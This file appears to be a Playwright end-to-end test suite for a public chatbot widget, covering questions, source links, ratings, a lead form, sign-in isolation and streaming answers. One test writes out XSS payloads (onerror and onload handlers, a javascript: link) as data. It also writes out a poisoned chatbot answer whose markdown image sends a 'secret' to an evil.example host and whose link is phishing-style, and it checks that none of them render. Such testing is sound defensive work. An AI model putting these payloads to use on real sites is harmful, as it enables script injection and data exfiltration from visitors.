import { expect, test } from "../fixtures.ts";
import {
  addChatbot,
  answers,
  ask,
  field,
  newOwner,
  openPublic,
  publicPage,
  RETURNS,
  websiteUrl,
} from "./chatbot.ts";
import { questionFor } from "../chat-page.ts";
import { signIn, takeUser } from "../signed-in.ts";

// An answer is stored a moment after its last word: a rating is sent again until then, and a reloaded page asks in vain.
test.use({ expectedErrors: [/404.*\/(add-feedback|visitor-conversation)/] });

test("a visitor asks, follows a source, rates the answer, leaves an address and finds it all again @phone", async ({
  page,
  request,
}) => {
  const owner = newOwner(request);
  const chatbot = await addChatbot(owner, {
    appearance: {
      color: "#7c3aed",
      welcome: "Hi from Brindille!",
      suggestions: ["How long can I return a tool?"],
    },
    lead_form: { when: "during", consent: "You may write to me." },
  });
  await openPublic(page, chatbot);
  await expect(page.getByRole("heading", { level: 1, name: "Brindille helper" })).toBeVisible();
  await expect(page.getByText("Hi from Brindille!")).toBeVisible();
  const suggestion = page.getByRole("button", { name: "How long can I return a tool?" });
  await suggestion.click();
  await expect(answers(page)).toHaveAttribute("data-status", "complete");
  await expect(suggestion).toHaveCount(0);
  await page.getByRole("button", { name: "New conversation" }).click();
  const answer = await ask(page, RETURNS.question);
  await expect(answer).toContainText(RETURNS.answer);
  const source = answer.getByRole("list", { name: "Sources" }).getByRole("link");
  await expect(source).toHaveAttribute("href", new RegExp(`^${websiteUrl()}/en/returns`));
  await expect(source).toHaveAttribute("target", "_blank");
  await expect(answer.getByRole("link", { name: /^Source 1: / })).toBeVisible();

  await answer.getByRole("button", { name: "Not helpful" }).click();
  await expect(answer.getByRole("textbox")).toBeFocused();
  await answer.getByRole("textbox").fill("And gifts?");
  // An answer can be rated before it is stored: then the page tries again.
  const isRated = page.waitForResponse((one) => one.url().endsWith("/add-feedback") && one.ok());
  await answer.getByRole("button", { name: "Send" }).click();
  await expect(answer.getByText("Thank you for your feedback.")).toBeVisible();

  await ask(page, questionFor("A second answer."));
  await page.getByRole("button", { name: "Leave my details" }).click();
  const form = page.getByRole("form", { name: /May we contact you/ });
  await form.getByRole("textbox", { name: "Name" }).fill("Ada");
  await form.getByRole("textbox", { name: "Email" }).fill("ada");
  await form.getByRole("button", { name: "Send" }).click();
  await expect(form.getByText("Enter a valid email address.")).toBeVisible();
  await form.getByRole("textbox", { name: "Email" }).fill("ada@visitor.example");
  await form.getByRole("button", { name: "Send" }).click();
  await expect(form.getByText("Please agree to continue.")).toBeVisible();
  await form.getByRole("checkbox").check();
  await form.getByRole("button", { name: "Send" }).click();
  await expect(form).toHaveCount(0);
  await expect(page.getByText("Thank you, Ada. We have your details.")).toBeVisible();

  await isRated;
  await page.reload();
  await expect(answers(page)).toHaveCount(2);
  await expect(answers(page).first()).toContainText(RETURNS.answer);
  await expect(answers(page).first().getByRole("button", { name: "Not helpful" })).toHaveAttribute(
    "aria-pressed",
    "true",
  );
  await expect(page.getByRole("form")).toHaveCount(0);
  const { leads } = await owner.call<{ leads: object[] }>(`leads/${chatbot.id}`);
  expect(leads).toMatchObject([{ name: "Ada", email: "ada@visitor.example", conversations: 2 }]);

  await page.getByRole("button", { name: "New conversation" }).click();
  await expect(answers(page)).toHaveCount(0);
  await expect(field(page)).toBeFocused();
});

test("R33, R34: a hostile name and a poisoned answer show no foreign picture or link and open no dialog @desktop", async ({
  page,
  request,
}) => {
  const foreign: string[] = [];
  page.on("request", (sent) => {
    if (
      !sent.url().startsWith(`http://127.0.0.1:${process.env.E2E_PORT}`) &&
      !/^(data|blob):/.test(sent.url())
    )
      foreign.push(sent.url());
  });
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const hostile = "<img src=x onerror=alert(1)><svg onload=alert(2)>";
  const chatbot = await addChatbot(newOwner(request), {
    name: hostile,
    appearance: { welcome: `${hostile} [win](javascript:alert(3))`, suggestions: [hostile] },
    lead_form: { when: "before", intro: hostile, consent: hostile },
  });
  await openPublic(page, chatbot);
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(hostile);
  await page.getByRole("textbox", { name: "Name" }).fill(hostile);
  await page.getByRole("textbox", { name: "Email" }).fill("eve@visitor.example");
  await page.getByRole("checkbox", { name: hostile }).check();
  await page.getByRole("button", { name: "Start the conversation" }).click();
  const poison = `![conversation](https://evil.example/?q=secret) [Claim your prize](https://evil.example/prize) <img src=https://evil.example/x onerror=alert(4)> <${websiteUrl()}/en/returns>`;
  const answer = await ask(page, questionFor(poison));
  await expect(answer).toContainText("Claim your prize");
  const links = await answer
    .locator("a")
    .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).href));
  expect(links.filter((href) => !href.startsWith(websiteUrl()))).toEqual([]);
  await expect(answer.locator("img, iframe, svg[onload]")).toHaveCount(0);
  await page.reload();
  await expect(answers(page)).toContainText("Claim your prize");
  expect(dialogs).toEqual([]);
  expect(foreign).toEqual([]);
});

test("a user who is signed in to the product is nobody here, and stays signed in; an answer continues after a reload @desktop", async ({
  page,
  context,
  request,
}) => {
  const chatbot = await addChatbot(newOwner(request));
  const user = takeUser("plain");
  await signIn(context, user);
  const bearers: (string | undefined)[] = [];
  page.on("request", (sent) => {
    if (sent.url().includes("/api/")) bearers.push(sent.headers()["user-id"]);
  });
  await page.goto("/user/dashboard");
  const html = await (await page.goto(publicPage(chatbot)))!.text();
  expect(html).not.toContain(user.id);
  bearers.length = 0;
  await ask(page, RETURNS.question);
  expect(bearers.length).toBeGreaterThan(0);
  expect(bearers.filter(Boolean)).toEqual([]);

  await test.step("an answer continues after a reload, and can be stopped", async () => {
    const answer = answers(page).last();
    await field(page).fill("scenario:slow?tokens=600&gap=100");
    await field(page).press("Enter");
    await expect(answer).toHaveAttribute("data-status", "streaming");
    await expect(answer.locator(".answer-markdown, [dir=auto]").first()).not.toBeEmpty();
    await page.reload();
    await expect(answer).toHaveAttribute("data-status", "streaming");
    await page.getByRole("button", { name: "Stop", exact: true }).click();
    await expect(page.getByText("You stopped this answer.")).toBeVisible();
  });

  await page.goto("/user/account");
  await expect(page).toHaveURL(/\/user\/account/);
});
